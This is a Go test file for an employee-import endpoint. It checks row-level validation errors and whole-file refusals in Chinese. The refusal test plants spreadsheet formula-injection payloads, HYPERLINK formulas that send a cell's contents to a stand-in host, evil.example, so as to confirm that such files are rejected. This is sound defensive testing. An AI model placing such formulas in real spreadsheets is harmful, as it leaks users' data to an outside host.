package app_test

import (
	"bytes"
	"encoding/json"
	"fmt"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"
)

// TestImportEmployeesRowReport imports a file with ten kinds of bad rows
// (and more) between good ones: the good rows are stored, each bad one is
// reported with its spreadsheet row number, column and reason.
func TestImportEmployeesRowReport(t *testing.T) {
	tn := freshTenant(t)
	held := importRow("HELD-1")
	importReport(t, tn.Key, "a.csv", csvFile(t, [][]string{held}, false), false)

	good := importRow("OK-1")
	bad := func(ext string, col int, v string) []string {
		r := importRow(ext)
		r[col] = v
		return r
	}
	rows := [][]string{
		good,                                 // row 2
		bad("", 0, ""),                       // 3: no 员工编号
		bad("R-4", 1, ""),                    // 4: no 姓名
		bad("R-5", 2, "未知"),                  // 5: 性别
		bad("R-6", 3, "150502198001010021"),  // 6: check digit
		bad("R-7", 4, "2020-02-30"),          // 7: no such day
		bad("R-8", 5, "2019-01-01"),          // 8: contract ends before hire
		bad("R-9", 6, "8500.505"),            // 9: three decimals
		bad("R-10", 7, "不知道"),                // 10: 参加生育保险
		bad("R-11", 9, "火星"),                 // 11: unknown region
		bad("OK-1", 1, "重复"),                 // 12: 员工编号 twice in the file
		bad("R-13", 3, good[3]),              // 13: ID number twice in the file
		bad("R-14", 3, held[3]),              // 14: ID number of another employee
		bad("R-15", 6, "10000000.01"),        // 15: wage over the bound
		bad("R-16", 6, "-1"),                 // 16: negative wage
		{"R-17", "", "", "", "", "", "", ""}, // 17: many at once
		importRow("OK-18"),                   // 18
	}
	rep := importReport(t, tn.Key, "bad.xlsx", xlsxFile(t, rows), false)
	if got := counts(rep); got != "rows=17 created=2 updated=0 unchanged=0 failed=15" {
		t.Fatalf("counts: %s", got)
	}
	var got []string
	raw, _ := json.Marshal(rep["errors"])
	var errs []struct {
		Row     int    `json:"row"`
		Field   string `json:"field"`
		Message string `json:"message"`
	}
	_ = json.Unmarshal(raw, &errs)
	for _, e := range errs {
		got = append(got, fmt.Sprintf("%d %s: %s", e.Row, e.Field, e.Message))
	}
	want := []string{
		"3 员工编号: 必填",
		"4 姓名: 必填",
		"5 性别: 须为 女 或 男",
		"6 身份证号: 身份证号校验位错误，请核对号码",
		"7 入职日期: 日期无效，格式须为 YYYY-MM-DD",
		"8 劳动合同到期日: 合同到期日不能早于入职日期",
		"9 月工资（元）: 须为以元为单位的金额，最多两位小数（如 8500.50）",
		"10 参加生育保险: 须为 是 或 否",
		"11 工作地区: 不支持的地区代码：支持的代码见 GET /api/v1/regions 或门户“适用地区”页（如 CN-GD 广东省、CN-NM-XAM 兴安盟）",
		"12 员工编号: 与第 2 行的员工编号重复：同一员工只能出现一次",
		"13 身份证号: 与第 2 行的身份证号相同",
		"14 身份证号: 该身份证号已登记在本单位员工编号 HELD-1 名下",
		"15 月工资（元）: 月工资不能超过 10,000,000 元（1,000,000,000 分）",
		"16 月工资（元）: 须为以元为单位的金额，最多两位小数（如 8500.50）",
		"17 姓名: 必填",
		"17 性别: 必填：女 或 男",
		"17 身份证号: 必填：18位居民身份证号",
		"17 入职日期: 必填，格式 YYYY-MM-DD",
		"17 月工资（元）: 必填：以元为单位的月工资，如 8500.50",
		"17 参加生育保险: 必填：是 或 否",
	}
	if strings.Join(got, "\n") != strings.Join(want, "\n") {
		t.Fatalf("row report:\n%s\nwant:\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
	}
	if n := employeeCount(t, tn.ID); n != 3 {
		t.Fatalf("%d employees stored, want HELD-1, OK-1 and OK-18", n)
	}
	list := mustDo(t, 200, "GET", "/api/v1/imports", tn.Key, nil)["items"].([]any)
	if h := list[0].(map[string]any); h["failed"] != float64(15) || len(h["errors"].([]any)) != len(want) {
		t.Fatalf("history keeps the report: %v", h)
	}
	if strings.Contains(string(raw), "150502") {
		t.Fatal("the report repeats an ID number")
	}
}

// TestImportEmployeesRefusals: a file that must not be imported at all is
// refused whole, with a Chinese message, storing nothing.
func TestImportEmployeesRefusals(t *testing.T) {
	tn := freshTenant(t)
	formula := excelize.NewFile()
	_ = formula.SetSheetRow("Sheet1", "A1", &[]any{"员工编号", "姓名"})
	_ = formula.SetSheetRow("Sheet1", "A2", &[]any{"F-1"})
	_ = formula.SetCellFormula("Sheet1", "B2", `HYPERLINK("http://evil.example/?leak="&D2,"乌兰")`)
	var fx bytes.Buffer
	_ = formula.Write(&fx)
	csvFormula := importRow("F-2")
	csvFormula[1] = `=HYPERLINK("http://evil.example","乌兰")`
	swapped := csvFile(t, [][]string{importRow("S-1")}, false)
	swapped = bytes.Replace(swapped, []byte("姓名,性别"), []byte("性别,姓名"), 1)
	cases := []struct {
		name, file string
		data       []byte
		code, says string
	}{
		{"tooLarge", "big.csv", bytes.Repeat([]byte("x,"), 4<<20+1), "file_too_large", "上限"},
		{"pdf", "a.pdf", []byte("%PDF-1.4\x00\x01binary"), "file_format", "格式"},
		{"xls", "a.xls", []byte("\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1old"), "file_format", ".xls"},
		{"formulaXLSX", "f.xlsx", fx.Bytes(), "formula_in_cell", "B2"},
		{"formulaCSV", "f.csv", csvFile(t, [][]string{importRow("F-1"), csvFormula}, false), "formula_in_cell", "第 3 行"},
		{"empty", "e.csv", []byte{}, "file_empty", "空"},
		{"headerOnly", "h.csv", csvFile(t, nil, false), "file_empty", "没有员工数据"},
		{"headerOrder", "o.csv", swapped, "header_mismatch", "第 2 列应为「姓名」"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			for _, dry := range []bool{true, false} {
				r := upload(t, fmt.Sprintf("/api/v1/imports/employees?dry_run=%t", dry), tn.Key, tc.file, tc.data)
				msg, _ := r.JSON(t)["error"].(map[string]any)["message"].(string)
				if r.Status != 400 || r.Code() != tc.code || !strings.Contains(msg, tc.says) {
					t.Fatalf("%d %s %q, want 400 %s", r.Status, r.Code(), msg, tc.code)
				}
			}
		})
	}
	r := env.Do(t, "POST", "/api/v1/imports/employees", tn.Key, "")
	if r.Status != 400 || r.Code() != "validation_failed" {
		t.Fatalf("no file: %d %s", r.Status, r.Body)
	}
	var n []int
	env.Query(t, tn.ID, &n, `SELECT count(*) FROM imports`)
	if employeeCount(t, tn.ID) != 0 || n[0] != 0 {
		t.Fatal("a refused file stored something")
	}
	big := env.Do(t, "POST", "/api/v1/employees", tn.Key, bytes.Repeat([]byte(" "), 1<<20+1))
	if big.Status != 413 {
		t.Fatalf("other routes keep the 1 MB limit: %d", big.Status)
	}
}
